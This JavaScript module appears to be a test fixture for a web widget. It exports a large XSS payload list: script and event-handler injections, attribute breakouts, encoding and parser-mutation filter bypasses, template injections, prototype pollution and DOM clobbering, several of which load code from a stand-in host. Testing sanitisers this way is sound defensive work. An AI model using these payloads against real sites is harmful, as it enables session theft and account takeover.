/*
 * Texts that become markup, scripts or requests if a page does not treat them as plain text. Scripts set `__pwned`;
 * requests go to `boese.localhost`.
 */

const RUN = 'window.__pwned=1';
const AWAY = '//boese.localhost/x';

/** Each thing in each spelling. @param {readonly string[]} things @param {readonly ((thing: string) => string)[]} spellings */
const each = (things, spellings) => things.flatMap((thing) => spellings.map((spell) => spell(thing)));

/** Script elements: letter case, unusual ends of the tag name, halves that a filter joins, missing end tags. */
const scripts = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script/x>${RUN}</script/x>`,
  `<script\n>${RUN}</script\n>`,
  `<script\f>${RUN}</script foo>`,
  `<script>${RUN}//`,
  `<script>${RUN}<!--`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `<script src=${AWAY}.js></script>`,
  `<script src=data:,${RUN}></script>`,
  `<script type=module src=${AWAY}.mjs></script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=${AWAY}.js /></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<noscript><script>${RUN}</script></noscript>`,
];

/** Elements that run a handler without user interaction, each in four spellings of its attributes. */
const handlers = each(
  [
    'img src=x onerror',
    'svg onload',
    'body onload',
    'video src=x onerror',
    'audio src=x onerror',
    'input autofocus onfocus',
    'textarea autofocus onfocus',
    'select autofocus onfocus',
    'p contenteditable autofocus onfocus',
    'details open ontoggle',
    'marquee onstart',
    'object data=x onerror',
    'iframe onload',
    'style onload',
    'link rel=stylesheet href=x onerror',
    'xss style=animation:a onanimationstart',
    'a tabindex=1 autofocus onfocus',
    'dialog open onclose',
  ],
  [
    (tag) => `<${tag}=${RUN}>`,
    (tag) => `<${tag.toUpperCase()}="${RUN}">`,
    (tag) => `<${tag.replaceAll(' ', '/')}='${RUN}'/>`,
    (tag) => `<${tag.replaceAll(' ', '\n')}\t=\t${RUN.replaceAll('=', '&#61;')} x=`,
  ],
);

/** Texts that break out of an attribute or an element. */
const breakouts = each(
  [
    '">',
    "'>",
    '`>',
    '-->',
    '--!>',
    ']]>',
    '</style>',
    '</textarea>',
    '</noscript>',
    '</template>',
    '</title>',
    '</a>',
  ],
  [(end) => `${end}<img src=x onerror=${RUN}>`, (end) => `x${end}<svg/onload=${RUN}>`],
);

/** Texts that add a handler to the element in whose attribute they are written. */
const ownHandlers = each(
  ['onmouseover', 'autofocus tabindex=1 onfocus', 'style=animation:a onanimationstart'],
  [
    (name) => `" ${name}="${RUN}`,
    (name) => `' ${name}='${RUN}`,
    (name) => `x ${name}=${RUN} y`,
    (name) => `\n${name}=${RUN}\n`,
  ],
);

/** Links in texts; the widget reads them as links if their address is allowed. */
const links = [
  `<a href=javascript:${RUN}>a</a>`,
  `<a href="JaVaScRiPt:${RUN}">a</a>`,
  `<a href=' \u0001javascript:${RUN}'>a</a>`,
  `<a href="java\tscript:${RUN}">a</a>`,
  `<a href="java&#10;script:${RUN}">a</a>`,
  `<a href="&#106;avascript:${RUN}">a</a>`,
  `<a href="javascript&colon;${RUN}">a</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">a</a>`,
  `<a href="vbscript:${RUN}">a</a>`,
  `<a href="https://example.org/" onclick="${RUN}">a</a>`,
  `<a href="https://example.org/" style="background:url(${AWAY})">a</a>`,
  `<a href="https://example.org/&quot; onmouseover=&quot;${RUN}">a</a>`,
  `<a href="https://example.org/"><img src=x onerror=${RUN}></a>`,
  `<a title="><img src=x onerror=${RUN}>" href="https://example.org/">a</a>`,
  `<a xlink:href="javascript:${RUN}">a</a>`,
  `<a ping="${AWAY}" href="https://example.org/">a</a>`,
];

/** Markup in entities: named, numeric, encoded twice, without a semicolon. */
const entities = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&#x3c;img src=x onerror=${RUN}&#x3E;`,
  `&#0000060;img src=x onerror=${RUN}&#0000062;`,
  `&#60img src=x onerror=${RUN}&#62`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `&amp;#60;img src=x onerror=${RUN}&amp;#62;`,
  `&LT;img src=x onerror=${RUN}&GT;`,
  `&quot;&gt;&lt;svg onload=${RUN}&gt;`,
  `&lt;&lt;&gt;script&gt;${RUN}&lt;/script&gt;`,
  `<&#x73;cript>${RUN}</&#x73;cript>`,
];

/** Markup that runs no script, but sends a request, restyles the page or navigates away. */
const requests = [
  `<img src=${AWAY}.png>`,
  `<img srcset="${AWAY}.png 2x">`,
  `<picture><source srcset=${AWAY}.png><img></picture>`,
  `<video poster=${AWAY}.png></video>`,
  `<input type=image src=${AWAY}.png>`,
  `<table background=${AWAY}.png><td>`,
  `<div style="background:url(${AWAY}.png)">`,
  `<style>@import "${AWAY}.css";*{background:url(${AWAY}.png)}</style>`,
  `<link rel=stylesheet href=${AWAY}.css>`,
  `<link rel=prefetch href=${AWAY}>`,
  `<link rel=preconnect href=//boese.localhost>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<base href=${AWAY}/>`,
  `<iframe src=${AWAY}></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<embed src=${AWAY}>`,
  `<object data=${AWAY}></object>`,
  `<form action=${AWAY}><button>x</button></form>`,
  `<svg><image href=${AWAY}.png /></svg>`,
  `<svg><use href=${AWAY}.svg#x /></svg>`,
];

/** Markup that a parser repairs into something else: other namespaces, misplaced tables, disguised comments. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `<?xml ><img src=x onerror=${RUN}> ?>`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<img alt="<x" title=">" src=x onerror=${RUN} "">`,
  `<li><p><li><td><img src=x onerror=${RUN}`,
];

/** Other encodings of markup: full-width characters, escapes of other languages, characters that filters drop. */
const encodings = [
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `＜script＞${RUN}＜/script＞`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `\\x3cimg src=x onerror=${RUN}\\x3e`,
  `%3Cimg%20src=x%20onerror=${RUN}%3E`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `<\u200bscript>${RUN}</script>`,
  `<img\u000bsrc=x\u000bonerror=${RUN}>`,
  `<img\u2028src=x\u2028onerror=${RUN}>`,
  `<\ufeffimg src=x onerror=${RUN}>`,
  `<ımg src=x onerror=${RUN}>`,
  `<img src=x on\u00aderror=${RUN}>`,
];

/** Texts that end a string, a comment or a block in scripts, style sheets and JSON. */
const strings = [
  `';${RUN};//`,
  `";${RUN};//`,
  `\\';${RUN};//`,
  `*/${RUN}/*`,
  `\u2028${RUN}\u2029`,
  `</script>';${RUN};//`,
  `"}],"__proto__":{"polluted":1},"x":[{"`,
  `red;}*{background:url(${AWAY})}`,
  `url(${AWAY})`,
  `expression(${RUN})`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
];

/** Template languages, and the markers of Lit and String.prototype.replace. */
const templates = [
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{{{${RUN}}}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `<div x-init="${RUN}" v-on:load="${RUN}" ng-init="${RUN}">`,
  '<!--?lit$0000000000$-->',
  '<?lit$0000000000$>',
  'lit$0000000000$',
  '{"_$litType$":1,"strings":["<img src=x onerror=window.__pwned=1>"],"values":[]}',
  "$& $` $' $1 $$ $<name>",
  '\ue002javascript:window.__pwned=1\ue003a\ue004',
];

/** Names that shadow properties of a document or a form, and tags that the widget itself uses. */
const names = [
  '<form name=body><input name=attributes></form>',
  '<img name=getElementById>',
  '<a id=customElements></a><a id=customElements name=get></a>',
  `<series-schedule src=${AWAY}.json></series-schedule>`,
  `<div data-series-schedule=${AWAY}.json></div>`,
  `<script src=series-schedule.js data-src=${AWAY}.json></script>`,
  '<slot name=header></slot><p slot=footer>x</p>',
  '<p part="session" class="unseen" role="status">x</p>',
];

export const XSS = [
  ...scripts,
  ...handlers,
  ...breakouts,
  ...ownHandlers,
  ...links,
  ...entities,
  ...requests,
  ...mutations,
  ...encodings,
  ...strings,
  ...templates,
  ...names,
];
